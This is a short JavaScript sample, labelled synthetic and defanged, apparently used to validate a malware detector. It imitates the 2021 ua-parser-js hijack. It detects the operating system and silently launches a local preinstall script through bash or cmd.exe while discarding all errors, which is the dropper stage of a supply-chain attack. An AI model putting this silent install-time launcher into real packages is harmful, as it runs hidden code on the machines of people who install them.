// SYNTHETIC, DEFANGED malwi validation sample - modelled on ua-parser-js hijack (2021); never run.
const { exec } = require('child_process');

function terminalLinux() {
  exec('/bin/bash preinstall.sh', (error, stdout, stderr) => {
    if (error) {
      return;
    }
    if (stderr) {
      return;
    }
  });
}

var opsys = process.platform;
if (opsys == 'darwin') {
  opsys = 'MacOS';
} else if (opsys == 'win32' || opsys == 'win64') {
  opsys = 'Windows';
  const { spawn } = require('child_process');
  const bat = spawn('cmd.exe', ['/c', 'preinstall.bat']);
  bat.on('error', () => {});
} else if (opsys == 'linux') {
  opsys = 'Linux';
  terminalLinux();
}
